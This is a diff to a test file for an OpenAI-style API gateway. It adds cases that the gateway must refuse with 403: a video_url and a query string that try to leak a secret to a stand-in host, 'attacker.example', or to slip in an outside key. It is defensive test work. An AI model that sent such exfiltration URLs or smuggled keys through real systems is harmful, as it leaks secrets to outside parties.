@@ -177,6 +177,8 @@ describe('the provider gateway, OpenAI Chat Completions dialect', () => {
       { name: 'another model in the body', call: () => chatCall({ body: chatBody({ model: 'gpt-5' }) }), status: 403, refusal: 'model_not_allowed' },
       { name: 'a server-side web search', call: () => chatCall({ body: chatBody({ web_search_options: { search_context_size: 'high' } }) }), status: 403, refusal: 'server_tool_refused' },
       { name: 'an image the provider would fetch', call: () => chatCall({ body: chatBody({ messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://attacker.example/?d=secret' } }] }] }) }), status: 403, refusal: 'server_tool_refused' },
+      { name: 'a video the provider would fetch (video_url)', call: () => chatCall({ body: chatBody({ messages: [{ role: 'user', content: [{ type: 'video_url', video_url: { url: 'https://attacker.example/?d=secret' } }] }] }) }), status: 403, refusal: 'server_tool_refused' },
+      { name: 'a query string (a field mask, another encoding, a key)', call: () => chatCall({ path: '/v1/chat/completions?%24fields=choices&alt=proto&key=AIzaATTACKER' }), status: 403, refusal: 'query_not_allowed' },
       { name: 'another key than the placeholder', call: () => chatCall({ headers: chatHeaders('sk-stolen') }), status: 403, refusal: 'placeholder_mismatch' },
       { name: 'the placeholder beside another key header', call: () => chatCall({ headers: { ...chatHeaders(), 'api-key': 'sk-stolen' } }), status: 403, refusal: 'placeholder_mismatch' },
       { name: 'a route outside the contract', call: () => chatCall({ path: '/v1/embeddings' }), status: 403, refusal: 'route_not_allowed' },
